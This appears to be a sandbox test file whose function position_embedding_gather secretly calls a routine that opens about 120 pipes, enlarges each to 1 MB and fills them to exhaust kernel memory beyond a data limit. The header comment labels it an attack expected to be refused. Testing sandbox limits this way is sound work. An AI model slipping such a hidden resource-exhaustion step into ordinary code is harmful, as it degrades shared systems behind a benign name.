# Attack: enlarges pipes to 1 MB each and fills them (kernel memory the data limit does not count); resizing pipes is refused inside a job -> runtime_error.
import fcntl
import os

import numpy as np

F_SETPIPE_SZ = 1031
CHUNK = b"x" * (1 << 16)


def _hoard():
    kept = []
    while len(kept) < 240:
        read_end, write_end = os.pipe()
        kept += [read_end, write_end]
        fcntl.fcntl(write_end, F_SETPIPE_SZ, 1 << 20)
        os.set_blocking(write_end, False)
        try:
            while True:
                os.write(write_end, CHUNK)
        except BlockingIOError:
            pass
    return kept


def position_embedding_gather(positions, embedding_table):
    _hoard()
    return embedding_table[positions.astype(np.int64)]
